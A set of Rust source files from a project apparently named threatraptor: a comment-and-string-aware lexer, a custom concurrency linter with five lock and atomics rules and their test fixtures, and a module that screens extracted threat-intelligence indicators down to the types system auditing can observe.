            if reports.len() == 1 { "" } else { "s" },
        );
        ExitCode::FAILURE
    }
}
