//! A lossy Rust lexer that classifies every byte of a source file as
//! *code*, *comment*, or *string/char contents*.
//!
//! The rules in this crate are textual, so the one thing the lexer must
//! get right is *where text stops being code*: a `.lock().unwrap()`
//! inside a doc comment or a `"std::sync::Mutex"` inside a string
//! literal must not trip a rule, and an allow directive inside a string
//! must not suppress one. The output is two same-length views of the
//! file with non-members blanked to spaces (newlines preserved), so
//! byte offsets, line numbers, and columns stay valid in both:
//!
//! * [`Lexed::code`] — code only; comment bodies and string/char
//!   interiors are spaces (the delimiting quotes survive, so token
//!   boundaries stay visible);
//! * [`Lexed::comments`] — comment text only (without the `//` / `/*`
//!   markers); everything else is spaces. Directive scans run here.
//!
//! Handled: line comments, nested block comments, string literals with
//! escapes, raw strings with any `#` count, byte and byte-raw strings,
//! char literals (including escaped), and the char-vs-lifetime
//! ambiguity (`'a'` is a literal, `&'a T` is not).

/// Classified views of one source file. Both fields are exactly as long
/// as the input, with newlines in place.
#[derive(Debug)]
pub struct Lexed {
    /// Code view: comments and literal interiors blanked.
    pub code: String,
    /// Comment view: everything except comment text blanked.
    pub comments: String,
}

#[derive(Debug, Clone, Copy, PartialEq)]
enum State {
    Code,
    LineComment,
    /// Nested depth.
    BlockComment(u32),
    /// Escape-aware; `true` while the next char is escaped.
    Str {
        escaped: bool,
    },
    /// Number of `#` in the delimiter.
    RawStr {
        hashes: u32,
    },
    CharLit {
        escaped: bool,
    },
}

/// Lexes `source` into its classified views.
pub fn lex(source: &str) -> Lexed {
    let bytes = source.as_bytes();
    let mut code = vec![b' '; bytes.len()];
    let mut comments = vec![b' '; bytes.len()];
    // Newlines survive in both views so line structure is shared.
    for (i, &b) in bytes.iter().enumerate() {
        if b == b'\n' {
            code[i] = b'\n';
            comments[i] = b'\n';
        }
    }

    let mut state = State::Code;
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        match state {
            State::Code => {
                if b == b'/' && bytes.get(i + 1) == Some(&b'/') {
                    state = State::LineComment;
                    i += 2;
                    continue;
                }
                if b == b'/' && bytes.get(i + 1) == Some(&b'*') {
                    state = State::BlockComment(1);
                    i += 2;
                    continue;
                }
                if b == b'"' {
                    code[i] = b'"';
                    state = State::Str { escaped: false };
                    i += 1;
                    continue;
                }
                // Raw / byte string prefixes: r", r#", br", b".
                if b == b'r' || b == b'b' {
                    if let Some((hashes, len)) = raw_prefix(&bytes[i..]) {
                        code[i..i + len].copy_from_slice(&bytes[i..i + len]);
                        state = State::RawStr { hashes };
                        i += len;
                        continue;
                    }
                    if b == b'b'
                        && bytes.get(i + 1) == Some(&b'"')
                        && !is_ident(prev_byte(bytes, i))
                    {
                        code[i] = b'b';
                        code[i + 1] = b'"';
                        state = State::Str { escaped: false };
                        i += 2;
                        continue;
                    }
                    if b == b'b'
                        && bytes.get(i + 1) == Some(&b'\'')
                        && !is_ident(prev_byte(bytes, i))
                    {
                        code[i] = b'b';
                        code[i + 1] = b'\'';
                        state = State::CharLit { escaped: false };
                        i += 2;
                        continue;
                    }
                }
                if b == b'\'' && !is_ident(prev_byte(bytes, i)) && is_char_literal(&bytes[i..]) {
                    code[i] = b'\'';
                    state = State::CharLit { escaped: false };
                    i += 1;
                    continue;
                }
                code[i] = b;
                i += 1;
            }
            State::LineComment => {
                if b == b'\n' {
                    state = State::Code;
                } else {
                    comments[i] = b;
                }
                i += 1;
            }
            State::BlockComment(depth) => {
                if b == b'*' && bytes.get(i + 1) == Some(&b'/') {
                    state = if depth == 1 {
                        State::Code
                    } else {
                        State::BlockComment(depth - 1)
                    };
                    i += 2;
                } else if b == b'/' && bytes.get(i + 1) == Some(&b'*') {
                    state = State::BlockComment(depth + 1);
                    i += 2;
                } else {
                    if b != b'\n' {
                        comments[i] = b;
                    }
                    i += 1;
                }
            }
            State::Str { escaped } => {
                if escaped {
                    state = State::Str { escaped: false };
                } else if b == b'\\' {
                    state = State::Str { escaped: true };
                } else if b == b'"' {
                    code[i] = b'"';
                    state = State::Code;
                }
                i += 1;
            }
            State::RawStr { hashes } => {
                if b == b'"' && closes_raw(&bytes[i + 1..], hashes) {
                    let end = i + 1 + hashes as usize;
                    code[i] = b'"';
                    code[i + 1..end].fill(b'#');
                    state = State::Code;
                    i = end;
                } else {
                    i += 1;
                }
            }
            State::CharLit { escaped } => {
                if escaped {
                    state = State::CharLit { escaped: false };
                } else if b == b'\\' {
                    state = State::CharLit { escaped: true };
                } else if b == b'\'' {
                    code[i] = b'\'';
                    state = State::Code;
                }
                i += 1;
            }
        }
    }

    Lexed {
        // Only ASCII bytes were written over the space-filled buffers;
        // multi-byte chars inside literals/comments stay blanked, so
        // both views are valid UTF-8.
        code: String::from_utf8(code).expect("code view is ASCII-patched UTF-8"),
        comments: String::from_utf8(comments).expect("comment view is ASCII-patched UTF-8"),
    }
}

fn prev_byte(bytes: &[u8], i: usize) -> Option<u8> {
    i.checked_sub(1).map(|p| bytes[p])
}

fn is_ident(b: Option<u8>) -> bool {
    matches!(b, Some(c) if c == b'_' || c.is_ascii_alphanumeric())
}

/// Recognizes a raw-string opener at the start of `s` (`r"`, `r#"`,
/// `br##"`, …), returning (hash count, prefix length).
fn raw_prefix(s: &[u8]) -> Option<(u32, usize)> {
    let mut j = 0;
    if s[0] == b'b' {
        j = 1;
    }
    if s.get(j) != Some(&b'r') {
        return None;
    }
    j += 1;
    let mut hashes = 0u32;
    while s.get(j) == Some(&b'#') {
        hashes += 1;
        j += 1;
    }
    (s.get(j) == Some(&b'"')).then_some((hashes, j + 1))
}

fn closes_raw(after_quote: &[u8], hashes: u32) -> bool {
    (0..hashes as usize).all(|k| after_quote.get(k) == Some(&b'#'))
}

/// Distinguishes `'a'` / `'\n'` (char literal) from `'a` (lifetime):
/// a `'` opens a literal iff the escape marker follows, or a single
/// char (possibly multi-byte) is closed by another `'`.
fn is_char_literal(s: &[u8]) -> bool {
    match s.get(1) {
        Some(b'\\') => true,
        Some(&c) => {
            // One UTF-8 char then a closing quote.
            let len = utf8_len(c);
            s.get(1 + len) == Some(&b'\'')
        }
        None => false,
    }
}

fn utf8_len(first: u8) -> usize {
    match first {
        b if b < 0x80 => 1,
        b if b >> 5 == 0b110 => 2,
        b if b >> 4 == 0b1110 => 3,
        _ => 4,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn comments_and_strings_leave_code() {
        let src = "let x = \"a.lock().unwrap()\"; // .lock().unwrap()\nreal.lock();";
        let lexed = lex(src);
        assert!(!lexed.code.contains("unwrap"), "{}", lexed.code);
        assert!(lexed.code.contains("real.lock();"));
        assert!(lexed.comments.contains(".lock().unwrap()"));
        assert_eq!(lexed.code.len(), src.len());
    }

    #[test]
    fn lifetimes_do_not_open_char_literals() {
        let src = "fn f<'a>(x: &'a str) -> char { 'x' }\nafter.lock();";
        let lexed = lex(src);
        assert!(lexed.code.contains("&'a str"));
        assert!(lexed.code.contains("' '"), "literal interior blanked");
        assert!(!lexed.code.contains("'x'"));
        assert!(lexed.code.contains("after.lock();"));
    }

    #[test]
    fn raw_strings_with_hashes() {
        let src = "let s = r#\"quote \" inside .lock().unwrap()\"#; x.lock();";
        let lexed = lex(src);
        assert!(!lexed.code.contains("unwrap"));
        assert!(lexed.code.contains("x.lock();"));
    }

    #[test]
    fn nested_block_comments() {
        let src = "/* outer /* inner */ still comment .lock().unwrap() */ code();";
        let lexed = lex(src);
        assert!(!lexed.code.contains("unwrap"));
        assert!(lexed.code.contains("code();"));
        assert!(lexed.comments.contains("still comment"));
    }

    #[test]
    fn escaped_quotes_stay_inside_strings() {
        let src = r#"let s = "with \" escaped"; y.lock();"#;
        let lexed = lex(src);
        assert!(lexed.code.contains("y.lock();"));
        assert!(!lexed.code.contains("escaped"));
    }
}
