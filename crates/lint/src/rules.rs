//! The five repo lints, run over the lexed code view of one file.
//!
//! | code | meaning |
//! |------|---------|
//! | L001 | `unwrap()`/`expect()` on a lock-guard acquisition (poison must be recovered) |
//! | L002 | lock-order cycle: two sites acquire the same locks in opposite nesting orders |
//! | L003 | lock guard held across a channel `send`/`recv` or `wait_epoch_newer` |
//! | L004 | `Ordering::SeqCst` without an `// ordering:` rationale (acquire/release usually suffices) |
//! | L005 | direct `std::sync` lock/atomic import bypassing the `threatraptor-sync` facade |
//!
//! All rules are textual — tripwires, not proofs. They are tuned to
//! this repo's idioms: guards are recovered with
//! `.unwrap_or_else(PoisonError::into_inner)`, locks are fields
//! acquired as `let guard = self.field.lock()…;`, and anything subtler
//! is a reviewer's job.

use crate::scope::{LineIndex, Scopes};
use crate::{Diagnostic, Severity};

/// How far above a `SeqCst` site an `// ordering:` rationale still
/// counts (lines).
const RATIONALE_WINDOW: usize = 8;

/// Context shared by every rule while linting one file.
pub struct FileCtx<'a> {
    /// Workspace-relative path with `/` separators.
    pub path: &'a str,
    pub code: &'a str,
    pub index: &'a LineIndex,
    pub scopes: &'a Scopes,
    pub include_mutants: bool,
}

impl FileCtx<'_> {
    /// Whether a finding at `offset` should be reported at all.
    fn live(&self, offset: usize, code: &str) -> bool {
        if self.scopes.in_test(offset) {
            return false;
        }
        if !self.include_mutants && self.scopes.in_mutant(offset) {
            return false;
        }
        let line = self.index.line_of(offset);
        !self.scopes.allowed(line, code)
    }

    fn diag(&self, offset: usize, code: &'static str, message: String) -> Diagnostic {
        let (line, col) = self.index.locate(offset);
        Diagnostic {
            code,
            severity: Severity::Error,
            path: self.path.to_string(),
            line,
            col,
            message,
        }
    }
}

/// One acquisition of a lock while at least one other guard was live:
/// a directed lock-order edge, fed into the per-file cycle check.
#[derive(Debug, Clone)]
pub struct LockEdge {
    pub from: String,
    pub to: String,
    pub offset: usize,
}

/// Runs every rule over one file; `edges` receives the lock-order graph
/// edges for the L002 cycle pass.
pub fn run_rules(ctx: &FileCtx<'_>, edges: &mut Vec<LockEdge>) -> Vec<Diagnostic> {
    let mut out = Vec::new();
    l001_guard_unwrap(ctx, &mut out);
    guard_scan(ctx, &mut out, edges);
    l004_seqcst(ctx, &mut out);
    l005_std_sync(ctx, &mut out);
    out
}

const ACQUIRES: [&str; 3] = [".lock()", ".read()", ".write()"];

/// L001: `.lock()/.read()/.write()` chained (possibly across lines)
/// into `.unwrap()` or `.expect(`. The repo recovers poison instead:
/// a panicking hunt worker must not poison-propagate to every tenant.
fn l001_guard_unwrap(ctx: &FileCtx<'_>, out: &mut Vec<Diagnostic>) {
    let bytes = ctx.code.as_bytes();
    for acquire in ACQUIRES {
        let mut from = 0;
        while let Some(pos) = ctx.code[from..].find(acquire) {
            let start = from + pos;
            from = start + acquire.len();
            let mut i = from;
            while i < bytes.len() && bytes[i].is_ascii_whitespace() {
                i += 1;
            }
            if bytes.get(i) != Some(&b'.') {
                continue;
            }
            i += 1;
            while i < bytes.len() && bytes[i].is_ascii_whitespace() {
                i += 1;
            }
            for method in ["unwrap()", "expect("] {
                if ctx.code[i..].starts_with(method) && ctx.live(i, "L001") {
                    out.push(ctx.diag(
                        i,
                        "L001",
                        format!(
                            "lock guard acquired with `{}` — recover poison with \
                             `.unwrap_or_else(PoisonError::into_inner)` instead",
                            method.trim_end_matches('('),
                        ),
                    ));
                }
            }
        }
    }
}

/// A guard lexically live at some point of the scan.
#[derive(Debug)]
struct LiveGuard {
    name: String,
    lock: String,
    /// Brace depth the binding lives at; popped when its block closes.
    depth: i64,
}

/// One forward scan tracking `let guard = receiver.lock()…;` bindings:
/// emits L002 edges (a second lock acquired under a live guard) and
/// L003 findings (send/recv/wait under a live guard).
///
/// Only statement-final acquisitions bind a guard: a chain that
/// continues past the recovery call (`.clone()`, `.take()`, `.len()`,
/// …) drops its guard at the end of the statement and holds nothing.
fn guard_scan(ctx: &FileCtx<'_>, out: &mut Vec<Diagnostic>, edges: &mut Vec<LockEdge>) {
    let bytes = ctx.code.as_bytes();
    let mut guards: Vec<LiveGuard> = Vec::new();
    let mut depth = 0i64;
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'{' => {
                depth += 1;
                i += 1;
            }
            b'}' => {
                guards.retain(|g| g.depth < depth);
                depth -= 1;
                i += 1;
            }
            b'd' if ctx.code[i..].starts_with("drop(") && !is_ident_byte(prev(bytes, i)) => {
                let inner_start = i + "drop(".len();
                let inner_end = inner_start
                    + ctx.code[inner_start..]
                        .find(')')
                        .unwrap_or(ctx.code.len() - inner_start);
                let dropped = ctx.code[inner_start..inner_end].trim();
                // Only a drop at the guard's own brace depth ends it: a
                // drop inside a nested block (`if … { drop(g); continue }`)
                // does not release the lock on the fall-through path.
                guards.retain(|g| !(g.name == dropped && g.depth == depth));
                i = inner_end;
            }
            b'.' => {
                if let Some(acquire) = ACQUIRES.iter().find(|a| ctx.code[i..].starts_with(**a)) {
                    let lock = receiver_path(ctx.code, i);
                    if !lock.is_empty() {
                        for g in &guards {
                            if ctx.live(i, "L002") {
                                edges.push(LockEdge {
                                    from: g.lock.clone(),
                                    to: lock.clone(),
                                    offset: i,
                                });
                            }
                        }
                        if let Some(name) = guard_binding(ctx.code, i, i + acquire.len()) {
                            guards.push(LiveGuard { name, lock, depth });
                        }
                    }
                    i += acquire.len();
                    continue;
                }
                for target in [".send(", ".recv()", ".recv_timeout("] {
                    if ctx.code[i..].starts_with(target)
                        && !guards.is_empty()
                        && ctx.live(i, "L003")
                    {
                        let held: Vec<&str> = guards.iter().map(|g| g.lock.as_str()).collect();
                        out.push(ctx.diag(
                            i,
                            "L003",
                            format!(
                                "channel `{}` while holding lock guard(s) on {} — a blocked \
                                 peer stalls every thread contending for the lock",
                                target.trim_start_matches('.').trim_end_matches('('),
                                held.join(", "),
                            ),
                        ));
                    }
                }
                i += 1;
            }
            // `.` is a legal prefix (method call); only a longer
            // identifier (`my_wait_epoch_newer`) must not match.
            b'w' if ctx.code[i..].starts_with("wait_epoch_newer(")
                && !matches!(prev(bytes, i), Some(c) if c == b'_' || c.is_ascii_alphanumeric()) =>
            {
                if !guards.is_empty() && ctx.live(i, "L003") {
                    let held: Vec<&str> = guards.iter().map(|g| g.lock.as_str()).collect();
                    out.push(ctx.diag(
                        i,
                        "L003",
                        format!(
                            "`wait_epoch_newer` (blocks up to its timeout) while holding lock \
                             guard(s) on {}",
                            held.join(", "),
                        ),
                    ));
                }
                i += "wait_epoch_newer(".len();
            }
            _ => i += 1,
        }
    }
}

fn prev(bytes: &[u8], i: usize) -> Option<u8> {
    i.checked_sub(1).map(|p| bytes[p])
}

fn is_ident_byte(b: Option<u8>) -> bool {
    matches!(b, Some(c) if c == b'_' || c == b'.' || c.is_ascii_alphanumeric())
}

/// The dotted path receiving a lock call ending at `dot` (the offset of
/// `.lock()`'s dot): `self.follows.lock()` → `self.follows`.
fn receiver_path(code: &str, dot: usize) -> String {
    let bytes = code.as_bytes();
    let mut start = dot;
    while start > 0 {
        let b = bytes[start - 1];
        if b == b'_' || b == b'.' || b == b':' || b.is_ascii_alphanumeric() {
            start -= 1;
        } else {
            break;
        }
    }
    code[start..dot].to_string()
}

/// When the acquisition at `dot..after` is a statement-final guard
/// binding (`let [mut] name = recv.lock().<one recovery call>;`),
/// returns the bound name.
fn guard_binding(code: &str, dot: usize, after: usize) -> Option<String> {
    let bytes = code.as_bytes();
    // Forward: exactly one chained recovery call, then `;`.
    let mut i = after;
    let skip_ws = |i: &mut usize| {
        while *i < bytes.len() && bytes[*i].is_ascii_whitespace() {
            *i += 1;
        }
    };
    skip_ws(&mut i);
    if bytes.get(i) == Some(&b'.') {
        i += 1;
        skip_ws(&mut i);
        while i < bytes.len() && (bytes[i] == b'_' || bytes[i].is_ascii_alphanumeric()) {
            i += 1;
        }
        skip_ws(&mut i);
        if bytes.get(i) != Some(&b'(') {
            return None;
        }
        let mut depth = 0i64;
        while i < bytes.len() {
            match bytes[i] {
                b'(' => depth += 1,
                b')' => {
                    depth -= 1;
                    if depth == 0 {
                        i += 1;
                        break;
                    }
                }
                _ => {}
            }
            i += 1;
        }
        skip_ws(&mut i);
    }
    if bytes.get(i) != Some(&b';') {
        return None; // chain continues: the guard is a temporary
    }
    // Backward: `let [mut] name =` immediately before the receiver.
    let recv_start = dot - receiver_path(code, dot).len();
    let stmt = code[..recv_start].trim_end();
    let stmt = stmt.strip_suffix('=')?.trim_end();
    let name_start = stmt
        .rfind(|c: char| c != '_' && !c.is_ascii_alphanumeric())
        .map_or(0, |p| p + 1);
    let name = &stmt[name_start..];
    if name.is_empty() {
        return None;
    }
    let before = stmt[..name_start].trim_end();
    (before.ends_with("let") || before.ends_with("let mut") || before.ends_with("mut"))
        .then(|| name.to_string())
}

/// L004: `Ordering::SeqCst` outside tests without a nearby
/// `// ordering:` rationale. Matching the literal `Ordering::SeqCst`
/// cannot collide with `std::cmp::Ordering` — that enum has no
/// `SeqCst` variant.
fn l004_seqcst(ctx: &FileCtx<'_>, out: &mut Vec<Diagnostic>) {
    let mut from = 0;
    while let Some(pos) = ctx.code[from..].find("Ordering::SeqCst") {
        let offset = from + pos;
        from = offset + "Ordering::SeqCst".len();
        if !ctx.live(offset, "L004") {
            continue;
        }
        let line = ctx.index.line_of(offset);
        if ctx.scopes.has_rationale_near(line, RATIONALE_WINDOW) {
            continue;
        }
        out.push(
            ctx.diag(
                offset,
                "L004",
                "`Ordering::SeqCst` without an `// ordering:` rationale — acquire/release \
             (or Relaxed) almost always suffices; document the total-order invariant \
             that requires SeqCst, or weaken it"
                    .to_string(),
            ),
        );
    }
}

/// Names that must come from the `threatraptor-sync` facade so the
/// interleaving checker can see them. `Arc`, `Once*`, `PoisonError`,
/// `LockResult`, … are fine from `std` — the facade re-exports them
/// unchanged in both build modes.
const BANNED_SYNC: [&str; 10] = [
    "Mutex",
    "MutexGuard",
    "RwLock",
    "RwLockReadGuard",
    "RwLockWriteGuard",
    "Condvar",
    "Barrier",
    "WaitTimeoutResult",
    "atomic",
    "mpsc",
];

/// L005: `std::sync::` paths naming a lock, condvar, or the atomic
/// module. The facade is what lets `cfg(threatraptor_check)` swap the
/// primitives; a direct import is invisible to the checker.
fn l005_std_sync(ctx: &FileCtx<'_>, out: &mut Vec<Diagnostic>) {
    if ctx.path.starts_with("crates/check/") || ctx.path.starts_with("crates/compat/sync/") {
        return; // the checker and the facade are the implementation
    }
    let bytes = ctx.code.as_bytes();
    let mut from = 0;
    while let Some(pos) = ctx.code[from..].find("std::sync::") {
        let offset = from + pos;
        from = offset + "std::sync::".len();
        if is_ident_byte(prev(bytes, offset)) || matches!(prev(bytes, offset), Some(b':')) {
            continue; // mid-path (e.g. `my::std::sync::`) — not ours
        }
        if !ctx.live(offset, "L005") {
            continue;
        }
        // For `use` statements take the whole (possibly multi-line)
        // grouped tail up to `;`; for inline paths, the path token.
        let line_start = {
            let line = ctx.index.line_of(offset);
            ctx.index.line_span(line, ctx.code.len()).0
        };
        let stmt_head = ctx.code[line_start..offset].trim_start();
        let is_use = stmt_head.starts_with("use ") || stmt_head.starts_with("pub use ");
        let tail_end = if is_use {
            offset
                + ctx.code[offset..]
                    .find(';')
                    .unwrap_or(ctx.code.len() - offset)
        } else {
            let rest = &ctx.code[offset..];
            offset
                + rest
                    .find(|c: char| !(c == '_' || c == ':' || c.is_ascii_alphanumeric()))
                    .unwrap_or(rest.len())
        };
        let tail = &ctx.code[offset + "std::sync::".len()..tail_end];
        let banned: Vec<&str> = BANNED_SYNC
            .iter()
            .copied()
            .filter(|name| {
                tail.split(|c: char| !(c == '_' || c.is_ascii_alphanumeric()))
                    .any(|tok| tok == *name)
            })
            .collect();
        if !banned.is_empty() {
            out.push(ctx.diag(
                offset,
                "L005",
                format!(
                    "`std::sync::{{{}}}` bypasses the `threatraptor-sync` facade — the \
                     interleaving checker cannot instrument it; import from \
                     `threatraptor_sync` instead",
                    banned.join(", "),
                ),
            ));
        }
    }
}

/// L002 cycle pass: over one file's accumulated lock-order edges,
/// reports every cycle in the directed lock graph (including the
/// self-loop of re-acquiring a held lock).
pub fn l002_cycles(ctx: &FileCtx<'_>, edges: &[LockEdge]) -> Vec<Diagnostic> {
    let mut out = Vec::new();
    // Adjacency over distinct (from, to) pairs, keeping one witness
    // offset per edge.
    let mut distinct: Vec<&LockEdge> = Vec::new();
    for e in edges {
        if !distinct.iter().any(|d| d.from == e.from && d.to == e.to) {
            distinct.push(e);
        }
    }
    for edge in &distinct {
        if edge.from == edge.to {
            out.push(ctx.diag(
                edge.offset,
                "L002",
                format!(
                    "lock on `{}` re-acquired while already held — self-deadlock",
                    edge.from
                ),
            ));
            continue;
        }
        // A cycle through this edge: any path edge.to → … → edge.from.
        if reaches(&distinct, &edge.to, &edge.from) {
            out.push(ctx.diag(
                edge.offset,
                "L002",
                format!(
                    "lock-order cycle: `{}` is acquired under `{}` here, but elsewhere \
                     `{}` is acquired under `{}` — opposite nesting orders can deadlock",
                    edge.to, edge.from, edge.from, edge.to,
                ),
            ));
        }
    }
    out
}

fn reaches(edges: &[&LockEdge], from: &str, to: &str) -> bool {
    let mut stack = vec![from.to_string()];
    let mut seen = vec![from.to_string()];
    while let Some(node) = stack.pop() {
        for e in edges {
            if e.from == node {
                if e.to == to {
                    return true;
                }
                if !seen.contains(&e.to) {
                    seen.push(e.to.clone());
                    stack.push(e.to.clone());
                }
            }
        }
    }
    false
}
