// Fixture: the awk-bug regression. The old tools/lint.sh exempted
// EVERYTHING after the first `#[cfg(test)]` line, so the production
// violation *below* the test module was never linted. The engine
// scopes the exemption to the test module's brace span. Expected
// findings: L001 x1 — in `below_the_tests`, NOT in the test module.

struct S {
    m: threatraptor_sync::Mutex<u32>,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tests_may_assert_on_poison() {
        let s = S::default();
        // Exempt: tests may unwrap guards to assert on poisoning.
        let _g = s.m.lock().unwrap();
    }
}

impl S {
    fn below_the_tests(&self) {
        let _g = self.m.lock().unwrap();
    }
}
