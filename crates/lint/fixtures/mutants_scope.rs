// Fixture: #[cfg(check_mutants)] spans hold seeded bugs and are
// skipped by default, included with --include-mutants. Expected
// findings: default → L001 x1 (the production site only);
// --include-mutants → L001 x2.

struct S {
    m: threatraptor_sync::Mutex<u32>,
}

#[cfg(check_mutants)]
impl S {
    fn seeded_bug(&self) {
        let _g = self.m.lock().unwrap();
    }
}

impl S {
    fn production_site(&self) {
        let _g = self.m.lock().unwrap();
    }
}
