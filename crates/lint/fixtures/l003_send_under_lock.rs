// Fixture: L003 — blocking channel/epoch operations under a live lock
// guard. A conditional drop inside a nested block does NOT end the
// guard on the fall-through path (the dispatch-loop shape). Expected
// findings: L003 x3 (send, recv, wait_epoch_newer). The send after the
// same-depth drop is clean.

struct S {
    state: threatraptor_sync::Mutex<u32>,
}

impl S {
    fn send_under_guard(&self, tx: &Sender<u32>) {
        let g = self.state.lock().unwrap_or_else(PoisonError::into_inner);
        tx.send(*g).unwrap();
        drop(g);
        tx.send(0).unwrap();
    }

    fn recv_under_guard(&self, rx: &Receiver<u32>) {
        let g = self.state.lock().unwrap_or_else(PoisonError::into_inner);
        if *g == 0 {
            drop(g);
            return;
        }
        // The drop above is conditional: the guard is still considered
        // held here.
        let _v = rx.recv().unwrap();
    }

    fn wait_under_guard(&self, svc: &IngestService) {
        let _g = self.state.lock().unwrap_or_else(PoisonError::into_inner);
        let _e = svc.wait_epoch_newer(0, timeout);
    }
}
