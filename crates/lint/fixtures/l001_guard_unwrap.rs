// Fixture: L001 — unwrap/expect on lock-guard acquisition (the repo
// recovers poison with `.unwrap_or_else(PoisonError::into_inner)`).
// Expected findings: L001 x4. The recovered acquisition and the
// string/comment decoys are clean.

struct S {
    m: threatraptor_sync::Mutex<u32>,
    l: threatraptor_sync::RwLock<u32>,
}

impl S {
    fn single_line(&self) {
        let _g = self.m.lock().unwrap();
    }

    fn read_guard(&self) {
        let _g = self.l.read().unwrap();
    }

    fn split_chain(&self) {
        let _g = self.m
            .lock()
            .unwrap();
    }

    fn with_expect(&self) {
        let _g = self.m.lock().expect("poisoned");
    }

    fn recovered(&self) {
        let _g = self.m.lock().unwrap_or_else(PoisonError::into_inner);
    }

    fn decoys(&self) {
        // A comment saying x.lock().unwrap() must not trip.
        let _s = "x.lock().unwrap()";
    }
}
