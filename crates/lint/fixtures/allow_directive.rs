// Fixture: allow directives. A standalone directive comment suppresses
// the next code line; a trailing directive suppresses its own line; a
// directive for a DIFFERENT code suppresses nothing. Expected
// findings: L001 x1 (the mismatched-code site).

struct S {
    m: threatraptor_sync::Mutex<u32>,
}

impl S {
    fn suppressed_next_line(&self) {
        // threatraptor-lint: allow L001 — poisoning is fatal here by design
        let _g = self.m.lock().unwrap();
    }

    fn suppressed_trailing(&self) {
        let _g = self.m.lock().unwrap(); // threatraptor-lint: allow L001 — ditto
    }

    fn wrong_code_not_suppressed(&self) {
        // threatraptor-lint: allow L003 — this directive is for another rule
        let _g = self.m.lock().unwrap();
    }
}
