// Fixture: L004 — Ordering::SeqCst without a nearby rationale comment.
// (The magic comment marker is deliberately not spelled out in this
// header: it would land inside the lookback window of the first site
// and suppress it.) Expected findings: L004 x1 (the bare site). The
// site with a rationale and the weaker orderings are clean; so is the
// `std::cmp::Ordering` decoy (that enum has no SeqCst variant, so the
// literal-token match cannot collide — the decoy documents why).

fn counters(n: &AtomicU64) {
    n.fetch_add(1, Ordering::SeqCst);

    // ordering: SeqCst is required here — this flag participates in a
    // Dekker-style two-flag protocol whose correctness needs a single
    // total order over both stores.
    n.fetch_add(1, Ordering::SeqCst);

    n.fetch_add(1, Ordering::Relaxed);
    n.store(0, Ordering::Release);
    let _ = n.load(Ordering::Acquire);
}

fn decoy(a: u32, b: u32) -> std::cmp::Ordering {
    match a.cmp(&b) {
        std::cmp::Ordering::Less => std::cmp::Ordering::Less,
        other => other,
    }
}
