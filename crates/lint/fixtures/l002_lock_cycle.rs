// Fixture: L002 — lock-order cycle. `ab` nests b under a, `ba` nests a
// under b: the per-file lock graph has the cycle a ⇄ b. `same_order`
// repeats the a→b order, which is consistent and adds no finding.
// Expected findings: L002 x2 (one per edge on the cycle).

struct S {
    a: threatraptor_sync::Mutex<u32>,
    b: threatraptor_sync::Mutex<u32>,
}

impl S {
    fn ab(&self) {
        let ga = self.a.lock().unwrap_or_else(PoisonError::into_inner);
        let gb = self.b.lock().unwrap_or_else(PoisonError::into_inner);
        drop(gb);
        drop(ga);
    }

    fn ba(&self) {
        let gb = self.b.lock().unwrap_or_else(PoisonError::into_inner);
        let ga = self.a.lock().unwrap_or_else(PoisonError::into_inner);
        drop(ga);
        drop(gb);
    }

    fn same_order(&self) {
        let ga = self.a.lock().unwrap_or_else(PoisonError::into_inner);
        let gb = self.b.lock().unwrap_or_else(PoisonError::into_inner);
        drop(gb);
        drop(ga);
    }
}
