// Fixture: L005 — std::sync lock/atomic imports bypassing the
// threatraptor-sync facade. Expected findings: L005 x4 (grouped use,
// atomic use, inline path, multi-line group). Arc/OnceLock/PoisonError
// from std are fine — the facade re-exports them unchanged.

use std::sync::{Arc, Mutex};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{OnceLock, PoisonError};

use std::sync::{
    Condvar,
    Weak,
};

fn inline() {
    let _l = std::sync::RwLock::new(1);
    let _a = std::sync::Arc::new(1);
}

fn in_a_string() {
    let _s = "use std::sync::Mutex;";
}
