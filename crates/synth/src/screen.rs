//! Screening: drop graph nodes whose IOC types the auditing layer cannot
//! observe.
//!
//! System auditing captures files, processes, and network connections
//! (§II-A). IOC types with no system-level counterpart — hashes, CVE ids,
//! emails, registry keys (on our Linux-style host), bare domains/URLs
//! (auditing records peer IPs, not names) — are screened out together
//! with their edges.

use threatraptor_nlp::graph::ThreatBehaviorGraph;
use threatraptor_nlp::ioc::IocType;

/// Whether the auditing component captures entities of this IOC type.
pub fn auditable(ty: IocType) -> bool {
    matches!(
        ty,
        IocType::FilePath | IocType::FileName | IocType::Ip | IocType::IpSubnet
    )
}

/// Returns the screened graph (auditable nodes only, edges between them,
/// sequence numbers re-assigned in the surviving order).
pub fn screen(graph: &ThreatBehaviorGraph) -> ThreatBehaviorGraph {
    graph.filter_nodes(|n| auditable(n.ty))
}

#[cfg(test)]
mod tests {
    use super::*;
    use threatraptor_nlp::ThreatExtractor;

    #[test]
    fn auditable_types() {
        assert!(auditable(IocType::FilePath));
        assert!(auditable(IocType::FileName));
        assert!(auditable(IocType::Ip));
        assert!(auditable(IocType::IpSubnet));
        assert!(!auditable(IocType::Md5));
        assert!(!auditable(IocType::Sha256));
        assert!(!auditable(IocType::Cve));
        assert!(!auditable(IocType::Domain));
        assert!(!auditable(IocType::Url));
        assert!(!auditable(IocType::Email));
        assert!(!auditable(IocType::RegistryKey));
    }

    #[test]
    fn screening_drops_hash_nodes_and_their_edges() {
        let text = "The dropper /tmp/stage2.bin (md5 d41d8cd98f00b204e9800998ecf8427e) \
                    connected to 203.0.113.66. The exploit used CVE-2014-6271.";
        let result = ThreatExtractor::new().extract(text);
        let screened = screen(&result.graph);
        assert!(screened.node_by_text("/tmp/stage2.bin").is_some());
        assert!(screened.node_by_text("203.0.113.66").is_some());
        assert!(screened
            .node_by_text("d41d8cd98f00b204e9800998ecf8427e")
            .is_none());
        assert!(screened.node_by_text("CVE-2014-6271").is_none());
        for e in &screened.edges {
            assert!(auditable(screened.nodes[e.src].ty));
            assert!(auditable(screened.nodes[e.dst].ty));
        }
    }

    #[test]
    fn screening_preserves_auditable_subgraph() {
        let result = ThreatExtractor::new().extract(threatraptor_nlp::pipeline::FIG2_OSCTI_TEXT);
        let screened = screen(&result.graph);
        // Fig. 2's 9 IOCs are all auditable; nothing is lost.
        assert_eq!(screened.node_count(), result.graph.node_count());
        assert_eq!(screened.edge_count(), result.graph.edge_count());
    }
}
